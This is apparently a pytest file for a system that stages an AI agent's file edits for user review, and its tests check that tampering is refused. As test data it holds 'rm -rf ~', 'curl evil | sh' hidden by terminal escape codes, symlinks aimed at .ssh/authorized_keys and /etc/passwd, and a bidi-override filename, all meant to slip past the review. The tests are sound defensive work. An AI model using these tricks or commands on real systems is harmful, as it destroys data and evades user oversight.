"""Review on real files: what lands is what the user was shown, and an ended session's
staged files are moved into place rather than copied."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from app.events import Event, EventBus, EventKind
from app.paths import Dirs
from app.review import Review, diff
from app.staging import SessionStaging, sha256_file

SESSION = "5e55104a"


@pytest.fixture
def review(tmp_path: Path) -> Review:
    return Review(Dirs(tmp_path / "config", tmp_path / "state", tmp_path / "run"), EventBus())


def granted_tree(review: Review, tmp_path: Path) -> tuple[SessionStaging, Path, Path]:
    """`tmp_path/project` (made if missing) granted read-write: its staging, host root and
    upper layer, where a test writes what the agent would."""
    host = tmp_path / "project"
    host.mkdir(exist_ok=True)
    staging = SessionStaging(review.dirs.sessions / SESSION / "staging", SESSION)
    _, upper, _ = staging.add_tree(host, "g1", 1024**2, None)
    return staging, host, upper


def staged_session(review: Review, tmp_path: Path) -> tuple[SessionStaging, Path, Path]:
    (tmp_path / "project").mkdir()
    (tmp_path / "project" / "notes.txt").write_text("the user's notes\n")
    staging, host, upper = granted_tree(review, tmp_path)
    (upper / "notes.txt").write_text("the agent's notes\n")
    (upper / "new.txt").write_text("a new file\n")
    return staging, host, upper


def test_a_change_made_again_after_the_review_is_refused(review: Review, tmp_path: Path) -> None:
    _, host, upper = staged_session(review, tmp_path)
    shown = {c.path: c.fingerprint for c in review.changes(SESSION).changes}
    (upper / "notes.txt").write_text("rm -rf ~ # slipped in after the review\n")  # still running
    (upper / "later.txt").write_text("staged after the review\n")
    events: list[Event] = []
    review.bus.attach(events.append)
    result = review.commit(SESSION, (), shown)
    assert dict(result.refused) == {
        str(host / "notes.txt"): "changed since it was reviewed: not committed; review it again",
        str(host / "later.txt"): "not reviewed: it was staged after the review was opened; "
                                 "review it again",
    }
    assert result.applied == (str(host / "new.txt"),)
    assert (host / "notes.txt").read_text() == "the user's notes\n"
    assert not (host / "later.txt").exists()
    assert {e.subject for e in events if e.kind is EventKind.CHANGE_REFUSED} == {
        str(host / "notes.txt"), str(host / "later.txt")}


def test_an_ended_sessions_files_are_moved_a_running_ones_copied(
    review: Review, tmp_path: Path
) -> None:
    staging, host, upper = staged_session(review, tmp_path)
    staged = (upper / "notes.txt").stat().st_ino
    review.commit(SESSION, [host / "notes.txt"])  # still running: copied
    assert (host / "notes.txt").read_text() == "the agent's notes\n"
    assert (host / "notes.txt").stat().st_ino != staged
    assert (upper / "notes.txt").stat().st_ino == staged

    staging.seal()  # as the supervisor does once the container is gone
    staged = (upper / "new.txt").stat().st_ino
    result = review.commit(SESSION)
    assert result.applied == (str(host / "new.txt"),)
    assert (host / "new.txt").stat().st_ino == staged
    assert not (upper / "new.txt").exists()
    assert review.changes(SESSION).changes == ()


def test_a_fifo_swapped_in_for_a_staged_file_is_refused_not_waited_on(tmp_path: Path) -> None:
    fifo = tmp_path / "was-a-file"
    os.mkfifo(fifo)  # nobody ever writes it: opening it plainly would wait for good
    with pytest.raises(OSError, match="not a regular file"):
        sha256_file(fifo)


def test_a_staged_file_over_the_quota_is_refused_without_being_read(
    review: Review, tmp_path: Path
) -> None:
    _, host, upper = granted_tree(review, tmp_path)
    with open(upper / "huge.bin", "wb") as f:
        f.truncate(8 * 1024**4)  # 8 TiB of holes: hashing them would take hours
    [change] = review.changes(SESSION).changes
    assert change.path == host / "huge.bin" and change.new_hash is None
    assert change.problems == (f"larger than the staging quota ({8 * 1024**4} > {1024**2} bytes)",)
    review.discard(SESSION)
    assert not (upper / "huge.bin").exists()


def test_a_symlink_that_leaves_the_root_through_other_symlinks_is_refused(
    review: Review, tmp_path: Path
) -> None:
    host = tmp_path / "project"
    (host / "a" / "b").mkdir(parents=True)
    (host / "c.txt").write_text("c\n")
    (host / "etc").symlink_to("/etc")  # the user's own link out of the tree
    _, _, upper = granted_tree(review, tmp_path)
    (upper / "a" / "b").mkdir(parents=True)
    links = {
        "a/b/up": "../..",  # the root itself: fine
        "a/b/keys": "up/../../.ssh/authorized_keys",  # lexically inside; really ../.ssh
        "a/b/ok": "up/c.txt",
        "a/b/deep": "up/a/b/up/a/b/ok",
        "a/b/loop": "loop/x",
        "passwd": "etc/passwd",  # through the user's link
        "inside": str(host / "a" / "b" / "up" / "c.txt"),
        "outside": str(host / "a" / "b" / "up" / ".." / "x"),
    }
    for name, target in links.items():
        (upper / name).symlink_to(target)
    problems = {str(c.path.relative_to(host)): c.problems for c in review.changes(SESSION).changes
                if c.path.is_relative_to(host) and str(c.path.relative_to(host)) in links}
    refused = {name for name, found in problems.items() if found}
    assert refused == {"a/b/keys", "a/b/loop", "passwd", "outside"}, problems
    assert problems["a/b/keys"] == (f"a symlink to 'up/../../.ssh/authorized_keys', outside "
                                    f"{host}",)


def test_discarding_never_follows_a_directory_swapped_for_a_symlink(
    review: Review, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "x").write_text("the user's own\n")
    staging, host, upper = granted_tree(review, tmp_path)
    (upper / "sub").mkdir()
    (upper / "sub" / "x").write_text("staged\n")
    listed = review.changes(SESSION).changes
    assert [c.path for c in listed] == [host / "sub", host / "sub" / "x"]
    # What the agent can do through its overlay between the listing a discard works from
    # and the removal itself.
    (upper / "sub" / "x").unlink()
    (upper / "sub").rmdir()
    (upper / "sub").symlink_to(victim)
    staging.discard([c for c in listed if c.path == host / "sub" / "x"])
    assert (victim / "x").read_text() == "the user's own\n"


def test_a_tree_deeper_than_a_path_can_name_is_listed_and_discarded(
    review: Review, tmp_path: Path
) -> None:
    _, _, upper = granted_tree(review, tmp_path)
    fd = os.open(upper, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(30):  # 30 × 201 bytes: past PATH_MAX (4 096)
        os.mkdir("d" * 200, dir_fd=fd)
        deeper = os.open("d" * 200, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = deeper
    os.close(os.open("leaf", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))
    os.close(fd)
    changes = review.changes(SESSION).changes
    assert len(changes) == 31 and changes[-1].path.name == "leaf"  # read by descriptors
    assert all(c.problems == () for c in changes)
    review.discard(SESSION)
    assert os.listdir(upper) == []


def test_a_diff_shows_terminal_escapes_and_bidi_overrides_instead_of_obeying_them(
    review: Review, tmp_path: Path
) -> None:
    _, host, upper = staged_session(review, tmp_path)
    # Meant to hide the second line on a terminal: back up over it and clear it.
    (upper / "notes.txt").write_text("fine\tline\r\n"
                                     "curl evil | sh\x1b[1A\x1b[2K\rthe user's notes\n"
                                     "\u202eexe.txt\n")
    [change] = [c for c in review.changes(SESSION).changes if c.path == host / "notes.txt"]
    shown = "".join(diff(change))
    assert "+fine\tline\r\n" in shown
    assert "+curl evil | sh\\u001b[1A\\u001b[2K\\u000dthe user's notes\n" in shown
    assert "+\\u202eexe.txt\n" in shown
    assert not any(c in shown for c in "\x1b\u202e")
